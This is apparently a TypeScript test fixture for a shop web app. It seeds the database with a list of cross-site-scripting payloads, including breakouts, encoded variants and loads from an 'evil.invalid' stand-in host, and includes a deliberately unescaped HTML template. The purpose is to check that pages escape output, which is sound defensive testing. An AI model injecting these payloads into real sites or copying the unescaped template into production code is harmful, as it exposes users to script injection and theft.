import { randomUUID } from "node:crypto";
import { limits } from "@shop/contract/limits";
import type { PictureDetail } from "@shop/contract/picture-details";
import {
  lineFields,
  orderDocument,
  productDocument,
  reviewDocument,
  userDocument,
} from "../../support/documents.ts";
import type { Fields } from "../../support/fields.ts";
import { auth, firestore } from "./firebase.ts";
import { customer, type Person } from "./people.ts";
import { cursorBefore } from "./shop.ts";
import { hostile } from "./test.ts";

/**
 * Texts that become script where a page writes them out as they are. Each calls struck(), opens a
 * dialog or reaches for another host, and support/tripwire.ts notices any of these.
 */
export const payloads: readonly string[] = [
  // elements that are script, or hold one
  "<script>struck()</script>",
  "<ScRiPt >struck()</sCrIpT >",
  "<script>alert('saw')</script>",
  "<script type=module>struck()</script>",
  "<script src=data:text/javascript,struck()></script>",
  "<script src=https://evil.invalid/saw.js></script>",
  "<template shadowrootmode=open><script>struck()</script></template>",
  '<iframe srcdoc="<script>parent.struck()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.struck()&gt;"></iframe>',
  '<iframe src="javascript:parent.struck()"></iframe>',
  '<iframe src="data:text/html,<script>struck()</script>"></iframe>',
  '<embed src="data:text/html,<script>struck()</script>">',
  // event handlers
  "<img src=x onerror=struck()>",
  '<img src=x oNeRrOr="&#115;truck()" alt="A drill">',
  "<img src=x onerror=confirm(1)>",
  '<img srcset="x 1x, y 2x" onerror=struck()>',
  "<video><source onerror=struck()></video>",
  "<audio src=x onerror=struck()></audio>",
  "<body onload=struck()>",
  "<details open ontoggle=struck()><summary>saw</summary></details>",
  "<input autofocus onfocus=struck()>",
  '<p style="animation:turn 1s" onanimationstart=struck()>saw</p>',
  // drawings and formulas
  "<svg onload=struck()>",
  "<svg/onload=struck()//",
  "<svg><script>struck()</script></svg>",
  "<svg><animate onbegin=struck() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:struck()"><text x=9 y=9>saw</text></a></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=struck()></annotation-xml></math>',
  // addresses
  "javascript:struck()",
  "JaVaScRiPt:struck()//",
  '<a href="java&Tab;script:struck()">saw</a>',
  '<form><button formaction="javascript:struck()">saw</button></form>',
  "data:text/html,<script>struck()</script>",
  "data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='struck()'/>",
  // ways out of attributes, elements, comments, JSON and strings
  '"><script>struck()</script>',
  "'><script>struck()</script>",
  '" autofocus onfocus=struck() x="',
  '"></title><script>struck()</script>',
  "</textarea><img src=x onerror=struck()>",
  "</style><script>struck()</script>",
  "--><script>struck()</script><!--",
  '{"name":"</script><svg onload=struck()>"}',
  '";struck();//',
  `\${struck()}`,
  "\\u003cimg src=x onerror=struck()\\u003e",
  // letters that only look harmless, and a text that fits everywhere
  "＜img src=x onerror=struck()＞",
  "\u202e<img src=x onerror=struck()>\u2066",
  "'\"--></style></title></textarea></script><svg/onload=struck()>//",
  // style sheets and what else fetches by itself
  '<style>@import "https://evil.invalid/saw.css";</style>',
  '<p style="background:url(https://evil.invalid/saw.png)">saw</p>',
  "<link rel=stylesheet href=https://evil.invalid/saw.css>",
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/"><img src=saw.png>',
];

/** The places where careless pages write texts out: as they are, or after a second reading. */
export const careless = (text: string): string => `<!doctype html>
  <title>${text}</title><style>@keyframes turn { to { rotate: 1turn } }</style>
  <div>${text}</div><p title="${text}"></p><p title='${text}'></p><input value="${text}">
  <!-- ${text} --><textarea>${text}</textarea><style>/* ${text} */</style>
  <a href="${text}">go</a><iframe src="${text}"></iframe>
  <script type="application/json">${text}</script>
  <script>window.a = "${text}"</script><script>window.b = \`${text}\`</script>
  <script>document.body.insertAdjacentHTML("beforeend", window.a ?? "")</script>
  <div>${text.normalize("NFKC")}</div>`;

/** A shop with a payload in every field of every kind of document, at the end of every list. */
export interface HostileShop {
  /** The customer of all orders and author of all reviews. */
  readonly person: Person;
  /** The person's name: all payloads, one after the other. */
  readonly name: string;
  /** The cursor that the hostile products begin at. */
  readonly productsFrom: string;
  /** The products' ids, in the order of the payloads. */
  readonly productIds: readonly string[];
  readonly remove: () => Promise<void>;
}

/** @returns a text as what a picture shows: between marks that turn what is around it, and far longer than the API allows */
export const hostileAlt = (text: string): string => `\u202e\u2067${text.repeat(100)}`;

/** What a product's page shows beside. */
type ToolFields = Fields & {
  readonly facts: readonly object[];
  readonly pictures: readonly string[];
  readonly pictureDetails: readonly PictureDetail[];
  readonly contents: readonly string[];
};

const pictureOf = (text: string): string => `${text.replaceAll("#", "%23")}?${hostile}`;
const viewOf = (text: string): string => `${text}?view&${hostile}`;

const toolFields = (text: string): Omit<ToolFields, keyof Fields> => ({
  facts: text.length <= limits.factValue ? [{ name: "Saw", value: text }] : [],
  pictures: [viewOf(text)],
  pictureDetails: [
    { picture: pictureOf(text), alt: text, focus: "left top" },
    { picture: viewOf(text), alt: hostileAlt(text) },
  ],
  contents: [text],
});

/** Products are dated after those of all other tests, reviews and orders before theirs. */
const [last, first] = [Date.UTC(2100, 0), Date.UTC(2000, 0)];

const documentsOf = (person: Person): Record<string, Fields | ToolFields> =>
  Object.fromEntries(
    payloads.flatMap((text, index) => {
      const id = `hostile-${String(index).padStart(2, "0")}-${randomUUID()}`;
      const product = productDocument({
        name: text,
        description: text,
        image: pictureOf(text),
        createdAt: new Date(last + index),
      });
      const createdAt = new Date(first - index); // the newest is first
      const author = { uid: person.uid, name: text, email: text };
      const review = reviewDocument(author, { review: text, createdAt });
      // Every second order has a real address, by which it can be deleted.
      const buyer = { ...author, email: index % 2 === 0 ? person.email : text };
      const order = orderDocument(id, buyer, id, 2, {
        lines: [{ ...lineFields(id, id, 2), name: text }],
        address: text,
        phone: text,
        requestHash: id,
        number: text,
        status: "shipped",
        changes: [
          {
            status: "shipped",
            at: createdAt,
            by: "shop",
            requestHash: id,
            carrier: text,
            trackingNumber: text,
            reason: text,
          },
        ],
        createdAt,
      });
      // The tilde sorts them behind all other addresses.
      const user = userDocument({ email: `~${text}`, name: text }, { createdAt });
      return [
        [`products/${id}`, { ...product, ...toolFields(text) }],
        [`reviews/${id}`, review],
        [`orders/${id}`, order],
        [`users/${id}`, user],
      ];
    }),
  );

/** Writes the payloads into the database and an account directly, since the API refuses some. */
export const openHostileShop = async (): Promise<HostileShop> => {
  const person = await customer();
  const name = payloads.join(" ");
  await auth.updateUser(person.uid, { displayName: name });
  const documents = documentsOf(person);
  const write = firestore.batch();
  for (const [path, data] of Object.entries(documents)) write.set(firestore.doc(path), data);
  await write.commit();
  return {
    person,
    name,
    productsFrom: await cursorBefore(last),
    productIds: Object.keys(documents).flatMap((path) => path.match(/^products\/(.*)/)?.[1] ?? []),
    remove: async () => {
      const removal = firestore.batch();
      for (const path of Object.keys(documents)) removal.delete(firestore.doc(path));
      await removal.commit();
    },
  };
};
